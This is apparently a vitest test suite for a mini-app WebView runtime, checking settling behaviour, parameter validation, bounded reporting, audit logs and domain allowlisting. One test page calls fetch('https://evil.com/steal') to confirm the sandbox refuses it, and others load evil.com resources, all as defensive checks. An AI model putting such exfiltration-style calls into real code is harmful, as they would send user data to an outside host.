import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openAuditLog } from '../src/host/audit.js';
import { launchApp } from '../src/runtime/launch.js';
import { runApp } from '../src/runtime/run.js';
import { launch } from '../src/testing/index.js';
import { parseJsonOutput, runCli } from './helpers/cli.js';
import { scriptApp, type ScriptAppOptions } from './helpers/project.js';
import { doneOf, testHost } from './helpers/host-apps.js';

const app = (script: string, options?: ScriptAppOptions) => scriptApp('rverdict', script, options);

const run = async (dir: string, extra: string[] = []) => {
  const r = await runCli(['run', dir, '--json', '--timeout', '20000', '--data-dir', join(dir, '..', 'data'), '--host-key-file', join(dir, '..', 'host.key'), ...extra], { timeoutMs: 60_000 });
  return { code: r.code, out: parseJsonOutput(r.stdout), stdout: r.stdout, stderr: r.stderr };
};
const logs = (out: { result?: { console: Array<{ text: string }> } }) => out.result!.console.map((c) => c.text);

describe('miniapp run: pages that settle and URLs that follow WebView rules', () => {
  it('a failed dynamic import() settles (a missing module rejects in the page) and the run ends idle, not at the timeout', async () => {
    const dir = app(
      `
      import('./missing.js').then(() => console.log('loaded'), (e) => console.log('missing rejected'));
      import('./throws.js').then(() => console.log('throws settled'), () => console.log('throws settled'));
      import('./ok.js').then((m) => console.log('ok ' + m.value));
    `,
      { files: { 'throws.js': 'throw new Error("module failed");', 'ok.js': 'export const value = 42;' } },
    );
    const { out } = await run(dir);
    expect(out.result.stoppedBy).toBe('idle');
    expect(out.warnings.map((w: { code: string }) => w.code)).not.toContain('RUN_TIMEOUT');
    expect(
      logs(out)
        .filter((l) => !l.startsWith('Error: module failed'))
        .sort(),
    ).toEqual(['missing rejected', 'ok 42', 'throws settled']);
    // The module that throws is an uncaught error of the page (happy-dom reports it as one).
    expect(out.errors.map((e: { code: string }) => e.code).sort()).toEqual(['RUN_RESOURCE_MISSING', 'RUN_SCRIPT_ERROR']);
  }, 60_000);

  it('a click on <a href="#"> or on the fragment already shown does not reload the page', async () => {
    const body = '<a id="top" href="#">top</a><a id="sec" href="#section">section</a>';
    const dir = app(
      `
      console.log('page loaded');
      setTimeout(() => { document.getElementById('top').click(); document.getElementById('sec').click(); document.getElementById('sec').click(); console.log('at ' + location.hash); }, 20);
    `,
      { body },
    );
    const { out } = await run(dir);
    expect(out.result.stoppedBy).toBe('idle');
    expect(logs(out)).toEqual(['page loaded', 'at #section']);

    const t = await launch(dir, { idleTimeoutMs: 20_000 });
    try {
      await t.click('#top');
      await t.click('#sec');
      expect(t.window.location.hash).toBe('#section');
      expect(t.console.map((c) => c.text)).toEqual(['page loaded', 'at #section']);
    } finally {
      await t.close();
    }
  }, 60_000);

  it('data: and blob: URLs load without the network: no allowlist refusal, no violation', async () => {
    const dir = app(
      `
      fetch('data:text/plain,hello%20data').then((r) => r.text()).then((t) => console.log('data: ' + t));
      const url = URL.createObjectURL(new Blob(['hello blob'], { type: 'text/plain' }));
      fetch(url).then((r) => r.text()).then((t) => console.log('blob: ' + t));
      URL.revokeObjectURL(url);
      fetch(url).then(() => console.log('revoked blob loaded'), (e) => console.log('revoked: ' + e.code));
    `,
      { body: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">' },
    );
    const { code, out } = await run(dir);
    expect(out.errors).toEqual([]);
    expect(code).toBe(0);
    expect(out.result.violations).toEqual([]);
    expect(logs(out).sort()).toEqual(['blob: hello blob', 'data: hello data', 'revoked: NETWORK_ERROR']);
  }, 60_000);

  it('loads the app at "/" under run and miniapp/testing (a BrowserRouter app sees its home route)', async () => {
    const dir = app('console.log("path " + location.pathname); history.pushState({}, "", "/orders"); console.log("routed " + location.pathname);');
    const { out } = await run(dir);
    expect(logs(out)).toEqual(['path /', 'routed /orders']);
    const t = await launch(dir, { idleTimeoutMs: 20_000 });
    try {
      expect(t.console.map((c) => c.text)).toEqual(['path /', 'routed /orders']);
    } finally {
      await t.close();
    }
  }, 60_000);
});

describe('params are checked the same way under every isolation', () => {
  const script = `
    const out = {};
    const attempt = (name, params) => MiniAppBridge.call('storage.set', params).then(() => (out[name] = 'ok'), (e) => (out[name] = e.code + ' ' + e.path + ' ' + e.message));
    Promise.all([
      attempt('date', { key: 'k', value: new Date(0) }),
      attempt('bigint', { key: 'k', value: 1n }),
      attempt('map', { key: 'k', value: new Map() }),
      attempt('nested', { key: 'k', value: 'v', extra: [1, { when: new Date(0) }] }),
      attempt('undefinedDropped', { key: 'k', value: 'v', note: undefined }),
    ]).then(() => console.log(JSON.stringify(out)));
  `;
  const expected = {
    date: 'INVALID_PARAMS /value /value is a Date, which JSON cannot carry (send date.toISOString())',
    bigint: 'INVALID_PARAMS /value /value is a BigInt, which JSON cannot carry (send it as a string)',
    map: 'INVALID_PARAMS /value /value is a Map; only JSON values (objects, arrays, strings, numbers, booleans, null) can be sent',
    nested: 'INVALID_PARAMS /extra/1/when /extra/1/when is a Date, which JSON cannot carry (send date.toISOString())',
    undefinedDropped: 'ok',
  };

  it('run (sandbox process), miniapp/testing (in-process) and a host (sandbox process) give the same coded errors', async () => {
    const dir = app(script);
    const { out } = await run(dir);
    expect(JSON.parse(logs(out)[0]!)).toEqual(expected);

    const t = await launch(dir, { idleTimeoutMs: 20_000 });
    try {
      expect(JSON.parse(t.console[0]!.text)).toEqual(expected);
    } finally {
      await t.close();
    }

    // The sandbox process (what conformance and a host run), through createHostManager.
    const host = await testHost();
    try {
      await host.install('com.partner.params', `${script.replace('console.log(JSON.stringify(out))', "console.log('DONE ' + JSON.stringify(out))")}`);
      const sandboxed = await host.manager.launch('com.partner.params');
      expect(await doneOf(sandboxed)).toEqual(expected);
    } finally {
      await host.manager.close();
    }
  }, 90_000);
});

describe('a report is never lost, and the host keeps a bounded record of each app', () => {
  it('an odd param and a violation: run --json still prints the whole report, violations included, exit 1', async () => {
    const dir = app(`
      MiniAppBridge.call('storage.set', { key: 'k', value: 10n ** 30n }).catch(() => {});
      MiniAppBridge.call('ui.toast', { message: 'x'.repeat(900 * 1024) }).catch(() => {});
      fetch('https://evil.com/steal').catch(() => {});
    `);
    const { code, out, stdout } = await run(dir);
    expect(code).toBe(1);
    expect(out.command).toBe('run');
    expect(out.errors.map((e: { code: string }) => e.code)).toEqual(['DOMAIN_NOT_ALLOWED']);
    expect(out.result.violations.map((v: { url: string }) => v.url)).toEqual(['https://evil.com/steal']);
    expect(stdout.length).toBeLessThan(200_000); // the 900 KB param is recorded as a bounded preview
    const toast = out.result.calls.find((c: { method: string }) => c.method === 'ui.toast');
    expect(toast.truncated).toEqual({ params: true });
  }, 60_000);

  it('thousands of calls with big params: counts go on, the first 500 are kept as previews, host memory stays bounded', async () => {
    const dir = app(`
      const big = 'x'.repeat(100 * 1024);
      const calls = [];
      for (let i = 0; i < 1000; i++) calls.push(MiniAppBridge.call('storage.set', { key: 'k' + (i % 50), value: big + i }).catch(() => {}));
      for (let i = 0; i < 1000; i++) calls.push(MiniAppBridge.call('ui.setTitle', { title: 'page ' + i }));
      // The issue's case: 8 MB params, refused before they leave the page.
      for (let i = 0; i < 10; i++) calls.push(MiniAppBridge.call('storage.set', { key: 'k' + i, value: 'y'.repeat(8 << 20) }).catch((e) => e.code));
      Promise.all(calls).then((r) => console.log('refused ' + r.filter((x) => x === 'INVALID_PARAMS').length));
    `);
    const before = process.memoryUsage();
    // The page builds 2,000 calls in one synchronous turn: more than the sandbox's 1 s busy limit here.
    const { report } = await runApp(dir, { isolation: 'sandbox', limits: { memoryMb: 512, busyMs: 20_000 }, timeoutMs: 30_000 });
    const after = process.memoryUsage();
    expect(report.console.map((c) => c.text)).toEqual(['refused 10']);
    expect(report.callCount).toBe(2000);
    expect(report.calls).toHaveLength(500);
    expect(report.recordLimits.calls).toBe(500);
    expect(report.calls.every((c) => c.method !== 'storage.set' || (JSON.stringify(c.params).length < 10_000 && c.truncated?.params))).toBe(true);
    expect(report.uiCount).toBe(1000);
    expect(report.ui).toHaveLength(report.recordLimits.ui);
    // 100 MB of params went through; what the host keeps is a few MB.
    expect(JSON.stringify(report).length).toBeLessThan(8 * 1024 * 1024);
    expect(after.heapUsed + after.external - (before.heapUsed + before.external)).toBeLessThan(150 * 1024 * 1024);
  }, 90_000);

  it('the human report says how many calls were made and how many recorded', async () => {
    const dir = app('for (let i = 0; i < 1234; i++) MiniAppBridge.call("storage.get", { key: "k" });');
    const r = await runCli(['run', dir, '--data-dir', join(dir, '..', 'data'), '--host-key-file', join(dir, '..', 'host.key')], { timeoutMs: 60_000 });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('bridge calls (1,234; first 500 recorded)');
  }, 60_000);
});

describe('run --audit', () => {
  it('writes every bridge call event (past the 500th) and the isolation the run used', async () => {
    const dir = app('for (let i = 0; i < 650; i++) MiniAppBridge.call("storage.set", { key: "k" + i, value: "v" });');
    const auditFile = join(dir, '..', 'audit.jsonl');
    const { code } = await run(dir, ['--audit', auditFile]);
    expect(code).toBe(0);
    const events = readFileSync(auditFile, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(events.filter((e) => e.type === 'storage.access')).toHaveLength(650);
    // run's default: the sandbox process, inside the OS jail where the machine has one (.ci/run installs bubblewrap).
    const launch = events.find((e) => e.type === 'app.launch');
    expect(launch).toMatchObject({ app: 'com.partner.rverdict' });
    expect(['os-sandbox', 'process']).toContain(launch.isolation);
    expect(events.find((e) => e.type === 'app.stop')).toMatchObject({ isolation: launch.isolation, calls: 650 });
  }, 60_000);

  it('audit events are written as they happen, not rebuilt at the end', async () => {
    const audit = openAuditLog();
    const running = await launchApp(app(''), { audit });
    try {
      await running.host.waitForIdle();
      const before = audit.events.length;
      const page = running.guest.window as unknown as { MiniAppBridge: { call(m: string, p: unknown): Promise<unknown> } };
      await page.MiniAppBridge.call('storage.set', { key: 'k', value: 'v' });
      // Written when the call was answered, while the app still runs.
      expect(audit.events.slice(before)).toEqual([
        expect.objectContaining({ type: 'permission.granted', method: 'storage.set' }),
        expect.objectContaining({ type: 'storage.access', method: 'storage.set', ok: true }),
      ]);
    } finally {
      await running.close();
    }
  }, 60_000);
});

describe('run reports the references a WebView would fetch', () => {
  it('srcset and CSS url() outside allowedDomains are DOMAIN_NOT_ALLOWED with file and line; an <img src> once, by the runtime', async () => {
    const body = '<img srcset="https://cdn.evil.com/a.png 2x">\n<div style="background:url(https://img.evil.com/b.png)"></div>\n<img src="https://evil.com/c.png">';
    const { code, out } = await run(app('', { body }));
    expect(code).toBe(1);
    expect(out.result.staticReferences.map((r: { line: number; where: string; url: string }) => `${r.line} ${r.where} ${r.url}`)).toEqual([
      '1 <img srcset> https://cdn.evil.com/a.png',
      '2 CSS url() in <div style> https://img.evil.com/b.png',
    ]);
    const located = out.errors.filter((e: { file?: string }) => e.file === 'index.html');
    expect(located.map((e: { code: string; line: number }) => `${e.code} ${e.line}`)).toEqual(['DOMAIN_NOT_ALLOWED 1', 'DOMAIN_NOT_ALLOWED 2']);
    expect(out.result.violations.map((v: { url: string }) => v.url)).toEqual(['https://evil.com/c.png']);
  }, 60_000);
});

describe('the host side is bounded whatever arrives on the channel', () => {
  it('forged calls with 8 MB params, a BigInt and thousands of refused requests: counted, previews kept, JSON-safe', async () => {
    const { createHost } = await import('../src/runtime/host/host.js');
    const { randomBytes } = await import('node:crypto');
    let deliver!: (m: unknown) => void;
    const sent: unknown[] = [];
    // A guest that answers "idle" at once (the host waits for its calls and requests itself).
    const send = (m: { type: string; id?: number }) => (m.type === 'wait-idle' ? setImmediate(() => deliver({ type: 'idle', id: m.id, idle: true })) : sent.push(m));
    const channel = { send, onMessage: (l: (m: unknown) => void) => (deliver = l), close: () => undefined, closed: false };
    const manifest = { id: 'com.partner.forged', version: '1.0.0', minHostVersion: '3.0.0', entryPoint: 'index.html', permissions: ['storage'], allowedDomains: ['api.partner.com'] };
    const host = createHost(channel as never, { manifest: manifest as never, hostVersion: '3.4.0', hostKey: randomBytes(32), origin: 'https://com.partner.forged.miniapp.localhost' });
    const eight = 'z'.repeat(8 << 20);
    const before = process.memoryUsage().heapUsed;
    // What a guest that reached its process could write on the wire (structured clone keeps a BigInt).
    for (let i = 0; i < 34; i++) deliver({ type: 'call', id: i + 1, method: 'storage.set', params: { key: 'k', value: eight } });
    deliver({ type: 'call', id: 100, method: 'storage.set', params: { key: 'k', value: 5n } });
    for (let i = 0; i < 3000; i++) deliver({ type: 'network', id: 1000 + i, api: 'fetch', request: { url: `https://evil${i}.com/`, method: 'GET', headers: {} } });
    await host.waitForIdle();
    const snap = host.snapshot();
    expect(snap.counts.calls).toBe(35);
    expect(snap.counts.violations).toBe(3000);
    expect(snap.violations).toHaveLength(500);
    expect(host.recorder.refusals('INVALID_PARAMS').count).toBe(35);
    expect(snap.calls.at(-1)!.error).toMatchObject({ code: 'INVALID_PARAMS', path: '/value' });
    const json = JSON.stringify(snap);
    expect(json.length).toBeLessThan(2 * 1024 * 1024);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(100 * 1024 * 1024);
    await host.close();
  }, 60_000);
});
